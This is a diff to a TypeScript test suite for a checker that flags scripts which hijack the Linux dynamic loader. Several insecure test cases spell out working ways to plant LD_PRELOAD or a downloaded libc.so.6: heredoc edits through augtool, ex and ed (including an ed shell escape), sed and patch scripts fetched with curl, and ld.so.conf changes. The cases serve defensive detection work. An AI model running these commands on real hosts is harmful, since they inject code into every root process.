@@ -71,30 +71,21 @@ const insecure: NodeCase[] = [
             LOADER,
         ),
     ),
-    // MISS: augtool(1): "If no COMMAND is given, commands are read from standard input"; -s "Automatically save at the end of instructions"; /files/etc/environment is the file (Augeas). Accepted (got []): rootReads.ts RootReads.unknownEditor reads operands only; the heredoc holds the path. Fix: an unknown editor's literal stdin (heredoc, here-string, echo/printf pipe) is read for paths like its operands (/files/ prefixes as now); unread stdin with no file operand: fail closed for augtool/ex/ed-style command readers.
-    miss(
-        devNodeCase(
-            "U4 augtool -s with its commands on stdin",
-            devNodeScript(n("u4"), [
-                SO,
-                "augtool -s <<'EOF'",
-                "set /files/etc/environment/LD_PRELOAD /opt/x.so",
-                "EOF",
-            ]),
-            LOADER,
-        ),
+    // Was a MISS (fixed in round 75): augtool(1): "If no COMMAND is given, commands are read from standard input"; -s "Automatically save at the end of instructions"; /files/etc/environment is the file (Augeas). Accepted (got []): rootReads.ts RootReads.unknownEditor reads operands only; the heredoc holds the path. Fix: an unknown editor's literal stdin (heredoc, here-string, echo/printf pipe) is read for paths like its operands (/files/ prefixes as now); unread stdin with no file operand: fail closed for augtool/ex/ed-style command readers.
+    devNodeCase(
+        "U4 augtool -s with its commands on stdin",
+        devNodeScript(n("u4"), [SO, "augtool -s <<'EOF'", "set /files/etc/environment/LD_PRELOAD /opt/x.so", "EOF"]),
+        LOADER,
     ),
-    // MISS: patch(1): "patch takes a patch file patchfile containing a difference listing ... and applies those differences to one or more original files" (the names are the patch's own, -p0 from /); a downloaded patch naming /etc/ld.so.preload (ld.so(8): preloaded into every program) writes it. Accepted (got []): patch names no file, so RootReads.unknownEditor has no path. Fix: patch/git apply/quilt with an unread patch (stdin or -i FILE) may write any file under its -d directory or cwd (the whole tree when unknown): writtenUnknown over every judged file there.
-    miss(
-        devNodeCase(
-            "U5 patch -p0 of a downloaded patch naming /etc/ld.so.preload (stdin)",
-            devNodeScript(n("u5"), [
-                SO,
-                "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
-                "cd / && patch -p0 < /tmp/ops.patch",
-            ]),
-            LOADER,
-        ),
+    // Was a MISS (fixed in round 75): patch(1): "patch takes a patch file patchfile containing a difference listing ... and applies those differences to one or more original files" (the names are the patch's own, -p0 from /); a downloaded patch naming /etc/ld.so.preload (ld.so(8): preloaded into every program) writes it. Accepted (got []): patch names no file, so RootReads.unknownEditor has no path. Fix: patch/git apply/quilt with an unread patch (stdin or -i FILE) may write any file under its -d directory or cwd (the whole tree when unknown): writtenUnknown over every judged file there.
+    devNodeCase(
+        "U5 patch -p0 of a downloaded patch naming /etc/ld.so.preload (stdin)",
+        devNodeScript(n("u5"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
+            "cd / && patch -p0 < /tmp/ops.patch",
+        ]),
+        LOADER,
     ),
     // MISS: gitcli(7): options taking a value may be given in the stuck form (`-oArg`), so `git config -f/etc/systemd/system.conf` is `--file /etc/systemd/system.conf` (git-config(1)) and writes DefaultEnvironment=LD_PRELOAD. Accepted (got []): rootReads.ts RootReads.unknownEditor skips every word starting with `-` unless it is `--name=`/`-x=`. Fix: also take the path after a short option letter (`-[A-Za-z]/...`; `-[A-Za-z].+` when the rest is a judged file).
     miss(
@@ -154,39 +145,119 @@ const insecure: NodeCase[] = [
         devNodeScript(n("u14"), [SO, "pushd /etc/profile.d", "echo 'export LD_PRELOAD=/opt/x.so' > ops.sh", "popd"]),
         LOADER,
     ),
-    // MISS: sed(1) "-f script-file, --file=script-file: add the contents of script-file to the commands to be executed"; with -i the downloaded script's `$a LD_PRELOAD=...` edits /etc/environment (pam_env(8)). Accepted (got []): the sed -i reader judges only inline scripts, the -f file unread. Fix: sed -i with -f/--file of a file whose content is unknown makes the edited files' content unknown (fail closed).
-    miss(
-        devNodeCase(
-            "U15 sed -i -f of a downloaded sed script on /etc/environment",
-            devNodeScript(n("u15"), [
-                SO,
-                "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
-                "sed -i -f /tmp/e.sed /etc/environment",
-            ]),
-            LOADER,
-        ),
+    // Was a MISS (fixed in round 75): sed(1) "-f script-file, --file=script-file: add the contents of script-file to the commands to be executed"; with -i the downloaded script's `$a LD_PRELOAD=...` edits /etc/environment (pam_env(8)). Accepted (got []): the sed -i reader judges only inline scripts, the -f file unread. Fix: sed -i with -f/--file of a file whose content is unknown makes the edited files' content unknown (fail closed).
+    devNodeCase(
+        "U15 sed -i -f of a downloaded sed script on /etc/environment",
+        devNodeScript(n("u15"), [
+            SO,
+            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
+            "sed -i -f /tmp/e.sed /etc/environment",
+        ]),
+        LOADER,
     ),
     devNodeCase(
         "U16 vim -Es with ex commands on the command line editing /etc/environment",
         devNodeScript(n("u16"), [SO, "vim -Es +'$put =\"LD_PRELOAD=/opt/x.so\"' +wq /etc/environment"]),
         LOADER,
     ),
-    // MISS: vim(1) "-s: Silent mode ... only when started as Ex", commands read from stdin; `:e /etc/environment` opens it, `$a` appends, `wq` writes (ex(1)). Accepted (got []): ex names no file operand, so RootReads.unknownEditor has no path. Fix: read paths in an ex/vi/vim/ed/augtool stdin heredoc like operands (or fail closed when ex/ed run with unread stdin commands).
-    miss(
-        devNodeCase(
-            "U17 ex -s with commands on stdin, file opened by :e (no operand)",
-            devNodeScript(n("u17"), [
-                SO,
-                "ex -s <<'EOF'",
-                "e /etc/environment",
-                "$a",
-                "LD_PRELOAD=/opt/x.so",
-                ".",
-                "wq",
-                "EOF",
-            ]),
-            LOADER,
-        ),
+    // Was a MISS (fixed in round 75): vim(1) "-s: Silent mode ... only when started as Ex", commands read from stdin; `:e /etc/environment` opens it, `$a` appends, `wq` writes (ex(1)). Accepted (got []): ex names no file operand, so RootReads.unknownEditor has no path. Fix: read paths in an ex/vi/vim/ed/augtool stdin heredoc like operands (or fail closed when ex/ed run with unread stdin commands).
+    devNodeCase(
+        "U17 ex -s with commands on stdin, file opened by :e (no operand)",
+        devNodeScript(n("u17"), [
+            SO,
+            "ex -s <<'EOF'",
+            "e /etc/environment",
+            "$a",
+            "LD_PRELOAD=/opt/x.so",
+            ".",
+            "wq",
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    // Round 75 neighbours of U4/U5/U15/U17: the commands read from a pipe, a here-string, augtool -f and a relative
+    // Augeas path (the context /files: augtool(1)), ed(1) "!command" (a shell), an unread command file on stdin, a
+    // literal patch naming /etc/environment (git apply), patch -i of a download, sed -f of a download without -i
+    // (sed(1) `w FILE` may write anywhere).
+    devNodeCase(
+        "U4b augtool -s with a here-string and a path relative to /files",
+        devNodeScript(n("u4b"), [SO, "augtool -s <<< 'set etc/environment/LD_PRELOAD /opt/x.so'"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U4c augtool -s -f of a downloaded command file",
+        devNodeScript(n("u4c"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.aug https://downloads.example.com/ops.aug",
+            "augtool -s -f /tmp/ops.aug",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U4d augtool -s with commands piped from echo",
+        devNodeScript(n("u4d"), [SO, "echo 'set /files/etc/environment/LD_PRELOAD /opt/x.so' | augtool -s"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U17b ed -s of a harmless file whose commands run a shell (!)",
+        devNodeScript(n("u17b"), [
+            SO,
+            "ed -s /opt/notes.txt <<'EOF'",
+            "!echo LD_PRELOAD=/opt/x.so >> /etc/environment",
+            "q",
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U17c ex -s with its commands from a downloaded file on stdin",
+        devNodeScript(n("u17c"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.ex https://downloads.example.com/ops.ex",
+            "ex -s < /tmp/ops.ex",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U5b git -C / apply (from /opt) of a literal patch naming etc/environment",
+        devNodeScript(n("u5b"), [
+            SO,
+            "cd /opt && git -C / apply -p1 <<'EOF'",
+            "--- a/etc/environment",
+            "+++ b/etc/environment",
+            "@@ -1 +1,2 @@",
+            " LANG=C.UTF-8",
+            "+LD_PRELOAD=/opt/x.so",
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U5c patch -i of a downloaded patch with -d /etc",
+        devNodeScript(n("u5c"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
+            "patch -d /etc -p1 -i /tmp/ops.patch",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U15b sed -n -f of a downloaded script (its w command may write any file)",
+        devNodeScript(n("u15b"), [
+            SO,
+            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
+            "sed -n -f /tmp/e.sed /opt/notes.txt > /dev/null",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "U15c sed -i -f of a written script appending LD_PRELOAD to /etc/environment",
+        devNodeScript(n("u15c"), [
+            SO,
+            ...file("/tmp/e.sed", ["$a LD_PRELOAD=/opt/x.so"]),
+            "sed -i -f /tmp/e.sed /etc/environment",
+        ]),
+        LOADER,
     ),
     // ---- in-place editors ----
     devNodeCase(
@@ -438,23 +509,38 @@ const insecure: NodeCase[] = [
         ]),
         /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
     ),
-    // MISS: ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
+    // Was a MISS (fixed in round 75): ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
     // directories specified ... in the file /etc/ld.so.conf, and in the trusted directories (/lib and /usr/lib)", conf
     // directories first (lower priority: verify the cache order on AL2023's glibc): a downloaded libc.so.6 in /opt/lib is
     // then loaded by every dynamically linked root program, as an /etc/ld.so.preload entry is (refused: U7-U13).
     // Accepted (got []): /etc/ld.so.conf.d writes are not judged as loader configuration. Fix: judge /etc/ld.so.conf(.d)
     // directories as loader paths (only root-owned system library directories, as PATH's rule).
-    miss(
-        devNodeCase(
-            "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
-            devNodeScript(n("r4"), [
-                "mkdir -p /opt/lib",
-                "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
-                "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
-                "ldconfig",
-            ]),
-            LOADER,
-        ),
+    devNodeCase(
+        "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
+        devNodeScript(n("r4"), [
+            "mkdir -p /opt/lib",
+            "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
+            "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
+            "ldconfig",
+        ]),
+        LOADER,
+    ),
+    // Round 75 neighbours of R4: /etc/ld.so.conf itself, an `include` of files the pack does not judge, a list of
+    // directories (ldconfig(8): whitespace, `:` or `,` separated) hiding one non-system directory among system ones.
+    devNodeCase(
+        "R4b /etc/ld.so.conf appended with /opt/lib",
+        devNodeScript(n("r4b"), [SO, "echo /opt/lib >> /etc/ld.so.conf", "ldconfig"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "R4c /etc/ld.so.conf.d include of /opt/ops/*.conf",
+        devNodeScript(n("r4c"), ["echo 'include /opt/ops/*.conf' > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "R4d /etc/ld.so.conf.d /usr/lib64:/opt/lib (colon list)",
+        devNodeScript(n("r4d"), [SO, "echo /usr/lib64:/opt/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
+        LOADER,
     ),
     devNodeCase(
         "R5 ip6tables DNAT to the IPv6 IMDS address fd00:ec2::254",
@@ -583,6 +669,64 @@ const secure: NodeCase[] = [
                 "enabled=1",
             ]),
             "dnf install -y ops-agent",
+        ]),
+    ),
+    // Round 75 secure twins of U4/U5/U15/U17: literal commands naming only files the pack does not judge.
+    devNodeCase(
+        "U4 twin: augtool -s heredoc setting /files/etc/hosts",
+        devNodeScript(n("u4s"), [
+            "augtool -s <<'EOF'",
+            "set /files/etc/hosts/01/ipaddr 10.0.0.5",
+            "set /files/etc/hosts/01/canonical ops.internal",
+            "EOF",
+        ]),
+    ),
+    devNodeCase(
+        "U17 twin: ex -s heredoc editing /opt/ops/app.conf (forced write, quit)",
+        devNodeScript(n("u17s"), [
+            "ex -s <<'EOF'",
+            "e /opt/ops/app.conf",
+            "$a",
+            "log_level = info",
+            ".",
+            "w!",
+            "q!",
+            "EOF",
+        ]),
+    ),
+    devNodeCase(
+        "U5 twin: patch -p1 -d /opt/app of a literal here-document patch",
+        devNodeScript(n("u5s"), [
+            "patch -p1 -d /opt/app <<'EOF'",
+            "--- a/config.yaml",
+            "+++ b/config.yaml",
+            "@@ -1 +1 @@",
+            "-log_level: debug",
+            "+log_level: info",
+            "EOF",
+        ]),
+    ),
+    devNodeCase(
+        "U15 twin: sed -i -f of a written literal script on /opt/app/config.yaml",
+        devNodeScript(n("u15s"), [
+            ...file("/tmp/app.sed", ["s/^log_level: debug$/log_level: info/"]),
+            "sed -i -f /tmp/app.sed /opt/app/config.yaml",
+        ]),
+    ),
+    devNodeCase(
+        "U15 twin: sed --sandbox -n -f of a downloaded script (no w/e/r) printing to stdout",
+        devNodeScript(n("u15s2"), [
+            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
+            "sed --sandbox -n -f /tmp/e.sed /opt/app/config.yaml",
+        ]),
+    ),
+    // Round 75 secure twins of R4: system library directories and the stock include line load nothing new.
+    devNodeCase(
+        "R4 twin: /etc/ld.so.conf.d naming /usr/local/lib and /usr/lib64; the stock /etc/ld.so.conf include",
+        devNodeScript(n("r4s"), [
+            ...file("/etc/ld.so.conf.d/local.conf", ["# local builds", "/usr/local/lib", "/usr/local/lib64/"]),
+            ...file("/etc/ld.so.conf", ["include ld.so.conf.d/*.conf"]),
+            "ldconfig",
         ]),
     ),
     devNodeCase(
